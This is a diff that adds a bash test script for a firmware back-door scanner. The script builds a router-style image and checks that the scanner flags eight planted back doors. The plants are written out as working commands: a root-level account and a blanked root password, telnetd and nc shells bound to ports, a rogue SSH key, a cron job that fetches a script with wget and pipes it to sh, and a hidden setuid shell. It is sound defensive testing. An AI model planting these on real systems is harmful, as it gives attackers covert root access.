@@ -1,0 +1,63 @@
+#!/usr/bin/env bash
+# Issue 3's acceptance list on the router-style image (scripts/make-router-image:
+# uImage kernel + xz squashfs of Debian d-i mipsel malta's root filesystem):
+#  - each of eight back doors, planted one at a time, gives verdict fail with a
+#    finding whose location ends with the planted file;
+#  - the unmodified image does not fail (the second UID-0 account with a locked
+#    password and the tty2/tty3 console shells are at most medium).
+# Every plant is checked on the root filesystem as a directory target; when the
+# build can open the squashfs (its unpacker is present), also on the packed
+# image, built with --plant (about a minute per image).
+set -u
+fail=0
+check() { if eval "$2"; then echo "ok - $1"; else echo "not ok - $1"; fail=1; fi; }
+t=$(mktemp -d); trap 'rm -rf "$t"' EXIT
+mk="$SRC/scripts/make-router-image"
+
+if ! "$mk" --rootfs-out "$t/rootfs" "$t/clean.bin" > "$t/mk.log" 2>&1; then
+  echo "SKIP: make-router-image failed (no network or package cache?):"; cat "$t/mk.log"; exit 0
+fi
+
+verdict() { sed -n 's/^  "verdict": "\(.*\)",$/\1/p' "$1"; }
+# the planted file must carry a high or critical finding
+hit() { grep -E "\"severity\": \"(high|critical)\"" "$1" | grep -q "\"location\": \"[^\"]*!$2\""; }
+hitdir() { grep -E "\"severity\": \"(high|critical)\"" "$1" | grep -q "\"location\": \"[^\"]*$2\""; }
+
+"$POSTERN" scan "$t/clean.bin" --format json --no-run > "$t/clean.json"; rc=$?
+check "unmodified image: does not fail" '[ $rc -eq 0 ] && [ "$(verdict "$t/clean.json")" != fail ]'
+"$POSTERN" scan "$t/rootfs" --format json --no-run > "$t/cleandir.json"
+check "unmodified rootfs: does not fail" '[ "$(verdict "$t/cleandir.json")" != fail ]'
+check "unmodified rootfs: the second UID-0 account is explained, medium" \
+  'grep "account.extra-uid0" "$t/cleandir.json" | grep -q "\"severity\": \"medium\""'
+check "unmodified rootfs: tty2/tty3 shells are low" \
+  '[ "$(grep "service.console-shell" "$t/cleandir.json" | grep -c "\"severity\": \"low\"")" -eq 2 ]'
+check "unmodified rootfs: nothing high or critical" \
+  '! grep -qE "\"severity\": \"(high|critical)\"" "$t/cleandir.json"'
+
+image_mode=0
+grep -q '!/etc/passwd"' "$t/clean.json" && image_mode=1
+[ $image_mode = 1 ] || echo "# image mode skipped: this build does not open the squashfs yet (directory mode only)"
+
+plants=(
+  "/etc/passwd|echo 'toor:\$1\$Qx7\$Sg0Yw3b8Jf3kqWkqQmH7y/:0:0:toor:/root:/bin/sh' >> etc/passwd"
+  "/etc/passwd|sed -i 's/^root:\*:/root::/' etc/passwd"
+  "/etc/inittab|echo '::respawn:/usr/sbin/telnetd -F -p 2323 -l /bin/sh' >> etc/inittab"
+  "/etc/init.d/S99netd|mkdir -p etc/init.d && printf '#!/bin/sh\nnc -l -p 4444 -e /bin/sh &\n' > etc/init.d/S99netd && chmod 755 etc/init.d/S99netd"
+  "/.ssh/authorized_keys|mkdir -p .ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHmB0wZ3R0c3ZlbmRvcmtleWZvcnRlc3RpbmdvbmwAAAA vendor@factory' > .ssh/authorized_keys"
+  "/etc/ssl/private/device.key|mkdir -p etc/ssl/private && openssl genpkey -algorithm RSA -pkeyopt rsa_keygen_bits:2048 2>/dev/null | openssl rsa -traditional 2>/dev/null > etc/ssl/private/device.key"
+  "/etc/crontabs/root|mkdir -p etc/crontabs && echo '*/10 * * * * wget -qO- http://203.0.113.5/u.sh | sh' > etc/crontabs/root"
+  "/lib/.x/sh|mkdir -p lib/.x && cp bin/busybox lib/.x/sh && chmod 4755 lib/.x/sh"
+)
+for p in "${plants[@]}"; do
+  file=${p%%|*} cmd=${p#*|}
+  rm -rf "$t/p"; cp -a "$t/rootfs" "$t/p"
+  (cd "$t/p" && bash -c "$cmd")
+  "$POSTERN" scan "$t/p" --format json --no-run > "$t/p.json"
+  check "rootfs + $file: fail" '[ "$(verdict "$t/p.json")" = fail ] && hitdir "$t/p.json" "$file"'
+  if [ $image_mode = 1 ]; then
+    "$mk" --plant "$cmd" "$t/p.bin" > /dev/null 2>&1
+    "$POSTERN" scan "$t/p.bin" --format json --no-run > "$t/pi.json"
+    check "image + $file: fail" '[ "$(verdict "$t/pi.json")" = fail ] && hit "$t/pi.json" "$file"'
+  fi
+done
+exit $fail
